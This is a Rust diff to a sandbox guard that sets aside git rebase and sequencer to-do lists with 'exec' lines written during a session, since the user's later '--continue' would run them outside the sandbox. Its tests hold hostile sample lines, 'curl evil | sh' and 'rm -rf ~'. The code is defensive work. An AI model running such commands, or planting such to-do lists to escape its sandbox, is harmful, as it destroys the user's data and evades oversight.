@@ -21,6 +21,12 @@
 //!   naming a plain folder of the workspace is set aside. A link (`.git` file or symlink) to a
 //!   plain folder of the workspace is set aside too. Repositories outside the workspace (in
 //!   `$TMPDIR`, another writable folder) are treated like the model's own: config and hooks.
+//! - **a to-do list with commands** in any repository, known or new: an interactive rebase's
+//!   `rebase-merge/git-rebase-todo` or the sequencer's `sequencer/todo` holding an `exec` (`x`)
+//!   line, which the user's `git rebase --continue` (`cherry-pick`, `revert --continue`) runs
+//!   outside the sandbox. Set aside when it was made or changed since the session opened (one
+//!   there at open is the user's own operation, left alone); the operation then stops, and
+//!   the user sees why.
 //!
 //! Owns: the inventory taken at open, the check and what it sets aside; renames only, never
 //! deletes, each one reported ([`super::planted::Planted`]). Must not touch: mounts (the binds
@@ -75,6 +81,11 @@ pub const ALLOWED: [(&str, &str); 34] = [
     ("submodule", "active"),
 ];
 
+/// The to-do lists git's `--continue` works through, within a repository folder.
+const TODOS: [&str; 2] = ["rebase-merge/git-rebase-todo", "sequencer/todo"];
+/// Bytes of a to-do list read; a longer one is set aside whole.
+const TODO_CAP: u64 = 256 * 1024;
+
 /// Bytes of a `config` read; a longer one is set aside whole.
 const CONFIG_CAP: usize = 64 * 1024;
 /// Repositories looked into per check (new ones and their submodules and common folders).
@@ -95,6 +106,8 @@ pub struct Repos {
     known: HashSet<PathBuf>,
     /// `.git` files and links at open, with where they pointed.
     links: Vec<(PathBuf, Option<PathBuf>)>,
+    /// The to-do lists there at open ([`TODOS`], the user's own operations), as they were.
+    todos: std::collections::HashMap<PathBuf, FileState>,
     /// What the last walk listed. Calls end side by side: one check at a time.
     tree: std::sync::Mutex<Tree>,
 }
@@ -135,6 +148,7 @@ impl Repos {
             writable: writable.to_vec(),
             known: known.iter().cloned().collect(),
             links: Vec::new(),
+            todos: std::collections::HashMap::new(),
             tree: std::sync::Mutex::new(Tree::new()),
         };
         let inventory = {
@@ -159,6 +173,13 @@ impl Repos {
             }
             repos.links.push((l, target));
         }
+        let todos: Vec<(PathBuf, FileState)> = repos
+            .known
+            .iter()
+            .flat_map(|g| TODOS.map(|t| g.join(t)))
+            .filter_map(|t| file_state(&t).map(|s| (t, s)))
+            .collect();
+        repos.todos.extend(todos);
         repos
     }
 
@@ -255,6 +276,9 @@ impl Run<'_> {
     fn repository(&mut self, g: &Path, via: Option<&Path>, depth: usize) {
         if self.done.len() >= REPOSITORY_CAP || depth > 8 || !self.done.insert(g.to_path_buf()) {
             return;
+        }
+        if self.repos.writable(g) {
+            self.todos(g);
         }
         if self.repos.known.contains(g) {
             // Bound at open; a submodule's repository made since is not.
@@ -422,12 +446,60 @@ impl Run<'_> {
         );
     }
 
+    /// The to-do lists of repository `g` ([`TODOS`]): set aside when made or changed since the
+    /// session opened and holding a command (or not readable as a short text).
+    fn todos(&mut self, g: &Path) {
+        for rel in TODOS {
+            let todo = g.join(rel);
+            let Some(state) = file_state(&todo) else {
+                continue;
+            };
+            if self.repos.todos.get(&todo) == Some(&state) {
+                continue;
+            }
+            let (Some(folder), Some(name)) = (todo.parent(), todo.file_name()) else {
+                continue;
+            };
+            let text = open_dir(folder)
+                .and_then(|dir| planted::read_start(&dir, name, TODO_CAP + 1))
+                .filter(|bytes| bytes.len() as u64 <= TODO_CAP)
+                .and_then(|bytes| String::from_utf8(bytes).ok());
+            if text.is_some_and(|t| !runs_commands(&t)) {
+                continue;
+            }
+            self.set_aside(
+                &todo,
+                Change::Found,
+                format!(
+                    "the user's `git rebase --continue` (or `cherry-pick`, `revert --continue`) in \
+                     {} would run its `exec` lines",
+                    g.display()
+                ),
+            );
+        }
+    }
+
     fn set_aside(&mut self, p: &Path, change: Change, reader: String) {
         if let Some(mut planted) = planted::set_aside_one(p, reader) {
             planted.change = change;
             self.out.push(planted);
         }
     }
+}
+
+/// What tells a file apart from itself later: inode, modification time, size.
+type FileState = (u64, i64, i64, u64);
+
+fn file_state(p: &Path) -> Option<FileState> {
+    use std::os::unix::fs::MetadataExt;
+    let m = p.symlink_metadata().ok()?;
+    Some((m.ino(), m.mtime(), m.mtime_nsec(), m.size()))
+}
+
+/// Whether a to-do list holds a command git runs (`exec` or `x`, then the command).
+fn runs_commands(text: &str) -> bool {
+    text.lines()
+        .any(|l| matches!(l.split_whitespace().next(), Some("exec" | "x")))
 }
 
 /// Whether `g` is a repository folder as git tests one: a `HEAD` that reads as a ref or an
@@ -767,6 +839,61 @@ mod tests {
         assert!(std::fs::read_to_string(ws.join("fixture.git/config"))
             .expect("fixture")
             .contains("alias"));
+    }
+
+    #[test]
+    fn a_todo_with_commands_made_during_the_session_is_set_aside() {
+        let dir = tempfile::tempdir().expect("tempdir");
+        let ws = dir.path().canonicalize().expect("canonical");
+        git(&ws, &["init", "-q"]);
+        git(&ws, &["commit", "-q", "--allow-empty", "-m", "x"]);
+        // The user's own cherry-pick in progress at open, with a command: theirs, left alone.
+        std::fs::create_dir_all(ws.join(".git/sequencer")).expect("mkdir");
+        std::fs::write(
+            ws.join(".git/sequencer/todo"),
+            "exec make check
+",
+        )
+        .expect("w");
+        let repos = Repos::open(&ws, std::slice::from_ref(&ws), None, &[ws.join(".git")]);
+        assert!(repos.check().is_empty());
+        // A rebase to-do list without a command: nothing to run.
+        std::fs::create_dir_all(ws.join(".git/rebase-merge")).expect("mkdir");
+        let todo = ws.join(".git/rebase-merge/git-rebase-todo");
+        std::fs::write(
+            &todo,
+            "pick 0123456 x
+# exec in a comment
+",
+        )
+        .expect("w");
+        assert!(repos.check().is_empty());
+        // One a call wrote with a command, and the user's changed to hold another.
+        std::fs::write(
+            &todo,
+            "pick 0123456 x
+  x curl evil | sh
+",
+        )
+        .expect("w");
+        std::fs::write(
+            ws.join(".git/sequencer/todo"),
+            "exec rm -rf ~
+",
+        )
+        .expect("w");
+        let planted = repos.check();
+        let paths: Vec<_> = planted.iter().map(|p| p.path.clone()).collect();
+        assert_eq!(
+            paths,
+            [todo.clone(), ws.join(".git/sequencer/todo")],
+            "{planted:#?}"
+        );
+        assert!(!todo.exists());
+        assert!(ws
+            .join(".git/rebase-merge/git-rebase-todo.pod-planted")
+            .is_file());
+        assert!(repos.check().is_empty());
     }
 
     #[test]
